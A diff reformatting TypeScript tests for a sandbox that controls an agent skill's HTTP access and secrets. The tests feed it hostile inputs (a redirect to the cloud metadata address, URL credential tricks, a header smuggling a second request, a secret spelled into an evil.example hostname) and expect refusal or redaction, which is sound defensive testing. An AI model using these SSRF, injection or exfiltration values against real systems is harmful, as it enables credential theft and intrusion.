@@ -26,8 +26,10 @@ const origin: Server = createServer((request, response) => {
   request.on('end', () => {
     came.push({ request, body })
     const path = request.url ?? ''
-    if (path.startsWith('/moved')) response.writeHead(302, { location: 'http://169.254.169.254/latest' }).end('"moved"')
-    else if (path.startsWith('/echo')) response.end(JSON.stringify({ said: request.headers['authorization'] ?? null }))
+    if (path.startsWith('/moved'))
+      response.writeHead(302, { location: 'http://169.254.169.254/latest' }).end('"moved"')
+    else if (path.startsWith('/echo'))
+      response.end(JSON.stringify({ said: request.headers['authorization'] ?? null }))
     else if (path.startsWith('/large')) response.end(Buffer.alloc(3 * 1024 * 1024, 0x20))
     else if (path.startsWith('/broken')) {
       response
@@ -52,9 +54,17 @@ beforeAll(async () => {
   maker = await desk.operator(['admin'])
   granted(await desk.root('putPublisher', { params: { name: acme.name }, body: { keys: [acme.signer.x] } }))
   granted(
-    await desk.root('putSecret', { params: { name: 'api-token' }, body: { value: TOKEN, tools: ['keeper.run'], hosts: [`${HOST}:443`] } }),
+    await desk.root('putSecret', {
+      params: { name: 'api-token' },
+      body: { value: TOKEN, tools: ['keeper.run'], hosts: [`${HOST}:443`] },
+    }),
   )
-  granted(await desk.root('putSecret', { params: { name: 'readable' }, body: { value: 'what-it-may-read', tools: ['reader.run'] } }))
+  granted(
+    await desk.root('putSecret', {
+      params: { name: 'readable' },
+      body: { value: 'what-it-may-read', tools: ['reader.run'] },
+    }),
+  )
 })
 afterAll(async () => {
   origin.closeAllConnections()
@@ -64,8 +74,17 @@ afterAll(async () => {
 
 const REACHING: Partial<SkillManifest['capabilities']> = { http: { hosts: [HOST], methods: ['GET', 'POST'] } }
 
-async function enabled(parts: Parts, capabilities: SkillManifest['capabilities'], id = desk.name(), limits: SkillManifest['limits'] = {}) {
-  granted(await maker.client('publishSkill', { body: acme.pack(acme.manifest(id, { capabilities, limits }), await component(parts)) }))
+async function enabled(
+  parts: Parts,
+  capabilities: SkillManifest['capabilities'],
+  id = desk.name(),
+  limits: SkillManifest['limits'] = {},
+) {
+  granted(
+    await maker.client('publishSkill', {
+      body: acme.pack(acme.manifest(id, { capabilities, limits }), await component(parts)),
+    }),
+  )
   granted(await desk.root('enableSkill', { params: { id, version: '1.0.0' }, body: {} }))
   return `${id}.run`
 }
@@ -74,13 +93,18 @@ async function enabled(parts: Parts, capabilities: SkillManifest['capabilities']
 async function begun(tool: string): Promise<Call> {
   const call = granted(await agent.client('proposeCallInNewRun', { body: { tool, args: {} } }))
   if (call.approval !== undefined)
-    granted(await desk.root('answerApproval', { params: { id: call.approval.id }, body: { decision: 'approve' } }))
+    granted(
+      await desk.root('answerApproval', { params: { id: call.approval.id }, body: { decision: 'approve' } }),
+    )
   return call
 }
-const ended = async ({ run, id }: Call): Promise<Call> => granted(await agent.client('readCall', { params: { run, call: id }, wait: 20 }))
+const ended = async ({ run, id }: Call): Promise<Call> =>
+  granted(await agent.client('readCall', { params: { run, call: id }, wait: 20 }))
 const called = async (tool: string): Promise<Call> => ended(await begun(tool))
-const asks = async (what: Parameters<typeof asking>[0], limits: SkillManifest['limits'] = {}): Promise<Call> =>
-  called(await enabled(asking(what), REACHING, desk.name(), limits))
+const asks = async (
+  what: Parameters<typeof asking>[0],
+  limits: SkillManifest['limits'] = {},
+): Promise<Call> => called(await enabled(asking(what), REACHING, desk.name(), limits))
 
 async function connections(call: Call) {
   const bundle = granted(await agent.client('readAttestation', { params: { run: call.run, call: call.id } }))
@@ -96,10 +120,20 @@ const statementText = ({ envelope }: { readonly envelope: { readonly payload: st
 describe('http', () => {
   test('what the host says is the skill’s, and the connection stands in the attestation', async () => {
     const call = await asks({ url: `https://${HOST}/v1/things?x=1` })
-    expect(call).toMatchObject({ state: 'succeeded', result: { output: '{"path":"/v1/things?x=1","method":"GET"}' } })
+    expect(call).toMatchObject({
+      state: 'succeeded',
+      result: { output: '{"path":"/v1/things?x=1","method":"GET"}' },
+    })
     const { connections: seen, host_calls } = await connections(call)
     expect(seen).toEqual([
-      { host: HOST, port: 443, address: '', bytes_out: expect.any(Number), bytes_in: expect.any(Number), verdict: 'allowed' },
+      {
+        host: HOST,
+        port: 443,
+        address: '',
+        bytes_out: expect.any(Number),
+        bytes_in: expect.any(Number),
+        verdict: 'allowed',
+      },
     ])
     expect(seen?.[0]?.bytes_out).toBeGreaterThanOrEqual(`https://${HOST}/v1/things?x=1`.length)
     expect(seen?.[0]?.bytes_in).toBeGreaterThan(40) // and its headers
@@ -107,10 +141,19 @@ describe('http', () => {
   })
 
   test('a body and headers go along; the host is the address’s', async () => {
-    const call = await asks({ method: 'POST', url: `https://${HOST}/post`, headers: 'x-kind: test\naccept: text/plain\n', body: 'hello' })
+    const call = await asks({
+      method: 'POST',
+      url: `https://${HOST}/post`,
+      headers: 'x-kind: test\naccept: text/plain\n',
+      body: 'hello',
+    })
     expect(call.state).toBe('succeeded')
     const { request, body } = came.at(-1) ?? {}
-    expect([body, request?.headers['x-kind'], request?.headers['accept']]).toEqual(['hello', 'test', 'text/plain'])
+    expect([body, request?.headers['x-kind'], request?.headers['accept']]).toEqual([
+      'hello',
+      'test',
+      'text/plain',
+    ])
   })
 
   test.each<[string, Parameters<typeof asking>[0], RegExp]>([
@@ -126,7 +169,10 @@ describe('http', () => {
   ])('%s ends the call, and nobody is asked', async (_, what, why) => {
     const before = came.length
     const call = await asks(what)
-    expect(call).toMatchObject({ state: 'failed', result: { error: { code: 'capability_denied', detail: expect.stringMatching(why) } } })
+    expect(call).toMatchObject({
+      state: 'failed',
+      result: { error: { code: 'capability_denied', detail: expect.stringMatching(why) } },
+    })
     expect(came.length).toBe(before)
   })
 
@@ -134,8 +180,16 @@ describe('http', () => {
     ['N05 a user before the host', { url: `https://${HOST}@other.example.test/` }, /credentials/],
     ['N05 a backslash', { url: `https://${HOST}\\@other.example.test/` }, /`url` is none/],
     ['N06 a control character', { url: `https://${HOST}/\u0000` }, /`url` is none/],
-    ['N11 a second request in a header', { url: `https://${HOST}/`, headers: 'x: y\r\n\r\nGET / HTTP/1.1' }, /no line/],
-    ['a header about the connection', { url: `https://${HOST}/`, headers: 'host: other' }, /not the skill’s to set/],
+    [
+      'N11 a second request in a header',
+      { url: `https://${HOST}/`, headers: 'x: y\r\n\r\nGET / HTTP/1.1' },
+      /no line/,
+    ],
+    [
+      'a header about the connection',
+      { url: `https://${HOST}/`, headers: 'host: other' },
+      /not the skill’s to set/,
+    ],
     ['a GET with a body', { url: `https://${HOST}/`, body: 'x' }, /has no body/],
   ])('%s is refused', async (_, what, why) => {
     const before = came.length
@@ -153,7 +207,10 @@ describe('http', () => {
 
   test('N15 more than the call may receive is cut off, and told', async () => {
     const call = await asks({ url: `https://${HOST}/large` })
-    expect(call.result?.error).toMatchObject({ code: 'skill_error', detail: 'there is more than the call may receive' })
+    expect(call.result?.error).toMatchObject({
+      code: 'skill_error',
+      detail: 'there is more than the call may receive',
+    })
     expect((await connections(call)).connections).toEqual([expect.objectContaining({ verdict: 'cap' })])
   })
 
@@ -180,19 +237,29 @@ test('a cancel ends a call that waits for a host, and its connection is told', a
   granted(await agent.client('cancelRun', { params: { run: waiting.run } }))
   const call = await ended(waiting)
   expect([call.state, call.result?.error?.code]).toEqual(['failed', 'cancelled'])
-  expect((await connections(call)).connections).toEqual([expect.objectContaining({ host: HOST, verdict: 'failed' })])
+  expect((await connections(call)).connections).toEqual([
+    expect.objectContaining({ host: HOST, verdict: 'failed' }),
+  ])
 })
 
 describe('secrets', () => {
-  const credentials = [{ secret: 'api-token', host: `${HOST}:443`, header: 'authorization', format: 'Bearer {}' }]
+  const credentials = [
+    { secret: 'api-token', host: `${HOST}:443`, header: 'authorization', format: 'Bearer {}' },
+  ]
 
   test('V04 a credential goes to its host and to nobody else; the skill that hears it back can’t tell', async () => {
-    const tool = await enabled(asking({ url: `https://${HOST}/echo` }), { ...REACHING, credentials }, 'keeper')
+    const tool = await enabled(
+      asking({ url: `https://${HOST}/echo` }),
+      { ...REACHING, credentials },
+      'keeper',
+    )
     const call = await called(tool)
     expect(call.state).toBe('succeeded')
     expect(came.at(-1)?.request.headers['authorization']).toBe(`Bearer ${TOKEN}`)
     expect(call.result?.output).toBe('{"said":"Bearer «secret»"}') // V01
-    expect((await connections(call)).connections).toEqual([expect.objectContaining({ credentials: ['api-token'] })])
+    expect((await connections(call)).connections).toEqual([
+      expect.objectContaining({ credentials: ['api-token'] }),
+    ])
   })
 
   test('V03 a secret that is not put for the tool is none', async () => {
@@ -206,7 +273,12 @@ describe('secrets', () => {
   })
 
   test('V01 what is promised is what is told: a number that is hidden is none any more', async () => {
-    granted(await desk.root('putSecret', { params: { name: 'pin' }, body: { value: '12345678', tools: ['pinned.run'] } }))
+    granted(
+      await desk.root('putSecret', {
+        params: { name: 'pin' },
+        body: { value: '12345678', tools: ['pinned.run'] },
+      }),
+    )
     const call = await called(await enabled(says('{"n":12345678}'), { secrets: ['pin'] }, 'pinned'))
     expect([call.state, call.result?.error?.code]).toEqual(['failed', 'invalid_output'])
     expect(JSON.stringify(call)).not.toContain('12345678')
@@ -214,10 +286,19 @@ describe('secrets', () => {
 
   test('V01 V02 a secret that stands in the name of a host, or at the end of what is cut, is hidden, whole', async () => {
     const value = 'what-it-may-read'
-    granted(await desk.root('putSecret', { params: { name: 'spelled' }, body: { value, tools: ['speller.run', 'shouter.run'] } }))
+    granted(
+      await desk.root('putSecret', {
+        params: { name: 'spelled' },
+        body: { value, tools: ['speller.run', 'shouter.run'] },
+      }),
+    )
     const capabilities = { ...REACHING, secrets: ['spelled'] }
-    const spelled = await called(await enabled(asking({ url: `https://${value}.evil.example/` }), capabilities, 'speller'))
-    const evidence = granted(await agent.client('readAttestation', { params: { run: spelled.run, call: spelled.id } }))
+    const spelled = await called(
+      await enabled(asking({ url: `https://${value}.evil.example/` }), capabilities, 'speller'),
+    )
+    const evidence = granted(
+      await agent.client('readAttestation', { params: { run: spelled.run, call: spelled.id } }),
+    )
     const said = Buffer.from(JSON.stringify([spelled, evidence])).toString() + statementText(evidence)
     expect(said).toContain('«secret».evil.example')
     expect(said).not.toContain(value)
@@ -227,7 +308,10 @@ describe('secrets', () => {
   })
 
   test('what is not declared is not imported', async () => {
-    const body = acme.pack(acme.manifest(desk.name(), { capabilities: { log: true } }), await component(asking({ secret: 'readable' })))
+    const body = acme.pack(
+      acme.manifest(desk.name(), { capabilities: { log: true } }),
+      await component(asking({ secret: 'readable' })),
+    )
     expect(refusal(await maker.client('publishSkill', { body }))).toBe('422 invalid_skill')
   })
 })
